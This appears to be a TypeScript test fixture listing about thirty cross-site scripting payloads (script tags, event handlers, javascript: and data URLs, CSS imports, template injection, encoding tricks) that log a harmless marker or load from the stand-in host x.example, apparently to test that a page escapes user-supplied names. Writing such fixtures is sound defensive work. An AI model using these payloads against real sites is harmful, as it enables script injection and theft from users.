/** What a payload logs to the console if it runs. */
export const RAN_MARKER = 'it-ran';

const RUN = `console.log('${RAN_MARKER}')`;

/** A host that does not exist and that no page may contact. */
export const FOREIGN_ORIGIN = 'https://x.example';

/**
 * Texts that would run code, load something or navigate away if a page treated them as HTML, CSS or code. Each works
 * by itself and is short enough for the name of an API key.
 */
export const xssPayloads: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src=${FOREIGN_ORIGIN}/x.js></script>`,
  `"><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</iframe><script>${RUN}</script>`,
  `</textarea></title><script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=${FOREIGN_ORIGIN}/pixel.png>`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
  `<a href="javascript:${RUN}">link</a>`,
  `<a href="&#106;avascript:${RUN}">link</a>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe src="data:text/html,<script>${RUN}</script>"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="${FOREIGN_ORIGIN}/x.svg">`,
  `<style>@import "${FOREIGN_ORIGIN}/x.css";</style>`,
  `<div style="background:url(${FOREIGN_ORIGIN}/x.gif)">x</div>`,
  `<link rel=stylesheet href=${FOREIGN_ORIGIN}/y.css>`,
  `<meta http-equiv=refresh content="0;url=${FOREIGN_ORIGIN}/">`,
  `<base href=${FOREIGN_ORIGIN}/>`,
  `<form action=${FOREIGN_ORIGIN}><button autofocus onfocus="${RUN}">x</button></form>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<video src=${FOREIGN_ORIGIN}/v autoplay onerror="${RUN}"></video>`,
  `<math><mtext><img src=x onerror="${RUN}"></mtext></math>`,
  `{{constructor.constructor("${RUN}")()}}`,
  `\${${RUN}}`,
  `' onmouseover='${RUN}' x='`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `＜script＞${RUN}＜/script＞`,
  `javascript:${RUN}//`,
];
